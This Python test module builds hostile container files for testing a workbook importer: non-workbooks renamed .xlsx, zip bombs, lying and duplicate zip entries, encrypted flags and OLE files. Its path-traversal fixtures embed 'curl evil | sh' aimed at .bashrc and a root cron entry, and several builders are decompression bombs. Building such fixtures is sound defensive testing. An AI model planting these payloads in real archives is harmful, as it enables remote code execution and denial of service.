"""Hostile containers: files that are not workbooks, zip bombs, tampered and encrypted zips,
OLE files; and the helpers that rewrite the example workbook's parts."""

from __future__ import annotations

import functools
import io
import os
import re
import struct
import zipfile
import zlib
from pathlib import Path

from tests.conftest import EXAMPLE
from tests.hostile.generate import HEADER, builder
from tests.hostile.make_text import png_as_yaml


@functools.cache
def example_workbook() -> bytes:
    """The example client's answers as a questionnaire workbook (made once per process)."""
    from readiness.data.catalogue import load_catalogue
    from readiness.data.questionnaire import load_questionnaire
    from readiness.inputs.answers import load_answers
    from readiness.language import Language
    from readiness.render.questionnaire.workbook import workbook_bytes

    catalogue = load_catalogue()
    questionnaire = load_questionnaire(catalogue)
    answers = load_answers(EXAMPLE, questionnaire, catalogue)
    return workbook_bytes(catalogue, questionnaire, language=Language.EN, answers=answers)


def rezip(
    data: bytes,
    replace: dict[str, bytes | None] | None = None,
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """A copy of zip ``data`` with parts replaced (None removes them) and parts added."""
    replace = replace or {}
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(buffer, "w", compression) as target,
    ):
        for info in source.infolist():
            if info.filename in replace:
                content = replace[info.filename]
                if content is not None:
                    target.writestr(info.filename, content)
            else:
                target.writestr(info.filename, source.read(info.filename))
        for name, content in (add or {}).items():
            target.writestr(name, content)
    return buffer.getvalue()


def part(data: bytes, name: str) -> bytes:
    """One part of zip ``data``."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name)


def sheet_part(title_start: str) -> str:
    """The part name of the example workbook's sheet whose tab starts with ``title_start``."""
    data = example_workbook()
    workbook = part(data, "xl/workbook.xml").decode()
    rels = part(data, "xl/_rels/workbook.xml.rels").decode()
    found = re.search(rf'<sheet name="{re.escape(title_start)}[^"]*"[^>]*r:id="(rId\d+)"', workbook)
    assert found, title_start
    target = re.search(rf'Id="{found.group(1)}"[^>]*Target="([^"]+)"', rels) or re.search(
        rf'Target="([^"]+)"[^>]*Id="{found.group(1)}"', rels
    )
    assert target, found.group(1)
    return "xl/" + target.group(1).removeprefix("/xl/")


def set_cell(xml: bytes, ref: str, cell: str) -> bytes:
    """Sheet ``xml`` with cell ``ref`` replaced by the ``<c>`` element ``cell``."""
    pattern = re.compile(rb'<c r="' + ref.encode() + rb'"(?:[^>]*/>|[^>]*>.*?</c>)', re.S)
    assert pattern.search(xml), ref
    return pattern.sub(cell.encode(), xml, count=1)


def workbook_with_cell(path: Path, sheet: str, ref: str, cell: str) -> None:
    """The example workbook with one cell of one sheet replaced."""
    data = example_workbook()
    name = sheet_part(sheet)
    path.write_bytes(rezip(data, {name: set_cell(part(data, name), ref, cell)}))


def text_cell(ref: str, text: str) -> str:
    """An inline-string cell."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escaped}</t></is></c>'


@builder
def xlsx_example(path: Path) -> None:
    """The example client's workbook, untouched: accepted."""
    path.write_bytes(example_workbook())


@builder
def xlsm_with_macro(path: Path) -> None:
    """The example workbook saved as .xlsm with a (fake) VBA project: read, never run."""
    path.write_bytes(rezip(example_workbook(), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}))


@builder
def text_as_xlsx(path: Path) -> None:
    """A YAML answer file renamed .xlsx."""
    path.write_text(HEADER, encoding="utf-8")


@builder
def png_as_xlsx(path: Path) -> None:
    """A PNG image renamed .xlsx."""
    png_as_yaml(path)


@builder
def empty_xlsx(path: Path) -> None:
    """A zero-byte .xlsx."""
    path.write_bytes(b"")


@builder
def zip_of_photos(path: Path) -> None:
    """A zip of something else named .xlsx."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("holiday/beach.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 100)
        archive.writestr("notes.txt", "not a workbook")


@builder
def docx_as_xlsx(path: Path) -> None:
    """A Word document (an OOXML zip, but not a workbook) renamed .xlsx."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")


@builder
def truncated_xlsx(path: Path) -> None:
    """The first half of a workbook (a download that stopped)."""
    data = example_workbook()
    path.write_bytes(data[: len(data) // 2])


@builder
def zip_traversal(path: Path) -> None:
    """A workbook with an extra part named ``../../.bashrc``."""
    path.write_bytes(rezip(example_workbook(), add={"../../.bashrc": b"curl evil | sh\n"}))


@builder
def zip_absolute_member(path: Path) -> None:
    """A workbook with an extra part at an absolute path."""
    path.write_bytes(rezip(example_workbook(), add={"/etc/cron.d/evil": b"* * * * * root sh\n"}))


@builder
def zip_bomb(path: Path) -> None:
    """A 150 MiB sheet of spaces that deflates to about 150 KiB."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * 2**20
    body = b"".join(compressor.compress(chunk) for _ in range(150)) + compressor.flush()
    _write_raw_zip(path, {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"},
                   "xl/worksheets/sheet1.xml", body, 150 * 2**20)  # fmt: skip


@builder
def zip_bomb_ratio(path: Path) -> None:
    """One 30 MiB part that inflates 1000-fold: under the total, over the ratio."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    body = compressor.compress(b"0" * (30 * 2**20)) + compressor.flush()
    _write_raw_zip(path, {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"},
                   "xl/worksheets/sheet1.xml", body, 30 * 2**20)  # fmt: skip


@builder
def zip_bomb_lying(path: Path) -> None:
    """A sheet whose zip entry claims 4 KiB but inflates to 200 MiB.

    The zip directory is what the container check trusts; reading must still stop at the
    declared size (zipfile does), so memory stays bounded and the file is refused as damaged.
    """
    data = example_workbook()
    name = sheet_part("A ")
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    xml = part(data, name)
    head, tail = xml.split(b"<sheetData>", 1)
    body = compressor.compress(head + b"<sheetData>")
    for _ in range(200):
        body += compressor.compress(b"<!--" + b" " * (2**20 - 7) + b"-->")
    body += compressor.compress(tail) + compressor.flush()
    others = {n: part(data, n) for n in part_names(data) if n != name}
    _write_raw_zip(path, others, name, body, 4096)


@builder
def duplicate_zip_entry(path: Path) -> None:
    """A workbook whose first sheet is stored twice: the second copy rates everything F."""
    import warnings

    data = example_workbook()
    name = sheet_part("A ")
    second = re.sub(rb"<v>\d+</v>", b"<v>0</v>", part(data, name))
    buffer = io.BytesIO(data)
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "a") as archive:
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate name: the point here
        archive.writestr(name, second)
    path.write_bytes(buffer.getvalue())


@builder
def too_many_parts(path: Path) -> None:
    """A workbook with 2,500 extra parts."""
    extra = {f"xl/media/image{n}.png": b"x" for n in range(2_500)}
    path.write_bytes(rezip(example_workbook(), add=extra, compression=zipfile.ZIP_STORED))


@builder
def huge_xlsx(path: Path) -> None:
    """A workbook padded with incompressible media to exactly 22,020,096 bytes (21 MiB), so the
    expected message does not depend on how large our own workbook happens to be."""
    base = example_workbook()
    size = 21 * 2**20
    first = rezip(base, add={"xl/media/image1.png": b""}, compression=zipfile.ZIP_STORED)
    padding = {"xl/media/image1.png": os.urandom(size - len(first))}
    data = rezip(base, add=padding, compression=zipfile.ZIP_STORED)
    assert len(data) == size
    path.write_bytes(data)


@builder
def zip_encrypted_flag(path: Path) -> None:
    """A workbook whose parts carry the zip "encrypted" flag (ZipCrypto)."""
    data = bytearray(example_workbook())
    # Set bit 0 of the general-purpose flags in every local and central directory header.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            (flags,) = struct.unpack_from("<H", data, start + offset)
            struct.pack_into("<H", data, start + offset, flags | 1)
            start += 4
    path.write_bytes(bytes(data))


def _ole(streams: list[str]) -> bytes:
    """A minimal OLE2 (compound file) container whose directory names ``streams``."""
    header = bytearray(512)
    header[:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)
    directory = bytearray()
    for name in ["Root Entry", *streams]:
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\0\0"
        entry[: len(encoded)] = encoded
        struct.pack_into("<H", entry, 64, len(encoded))
        directory += entry
    return bytes(header) + bytes(directory) + b"\0" * 1024


@builder
def password_protected(path: Path) -> None:
    """A password-protected .xlsx: an OLE container holding EncryptionInfo and EncryptedPackage."""
    path.write_bytes(_ole(["EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"]))


@builder
def old_xls(path: Path) -> None:
    """An Excel 97-2003 workbook (.xls): an OLE container holding a Workbook stream."""
    path.write_bytes(_ole(["Workbook", "\x05SummaryInformation"]))


@builder
def xls_as_xlsx(path: Path) -> None:
    """An Excel 97-2003 workbook renamed .xlsx."""
    old_xls(path)


def part_names(data: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.namelist()


def _write_raw_zip(
    path: Path, parts: dict[str, bytes], name: str, deflated: bytes, declared: int
) -> None:
    """A zip with ordinary ``parts`` and one part ``name`` given as raw deflate data, whose
    directory entry declares ``declared`` bytes once inflated."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for other, content in parts.items():
            archive.writestr(other, content)
    entries = buffer.getvalue()
    with zipfile.ZipFile(io.BytesIO(entries)) as archive:
        infos = archive.infolist()
    directory_start = min((entries.find(b"PK\x01\x02"),), default=len(entries))
    local = entries[:directory_start]
    central = bytearray(entries[directory_start : entries.find(b"PK\x05\x06")])
    encoded = name.encode()
    crc = zlib.crc32(b"")  # never matches: a reader that inflates it all must then refuse it
    offset = len(local)
    local += struct.pack(
        "<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(deflated), declared,
        len(encoded), 0,
    ) + encoded + deflated  # fmt: skip
    central += struct.pack(
        "<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(deflated),
        declared, len(encoded), 0, 0, 0, 0, 0, offset,
    ) + encoded  # fmt: skip
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(infos) + 1, len(infos) + 1, len(central),
        len(local), 0,
    )  # fmt: skip
    path.write_bytes(bytes(local) + bytes(central) + end)
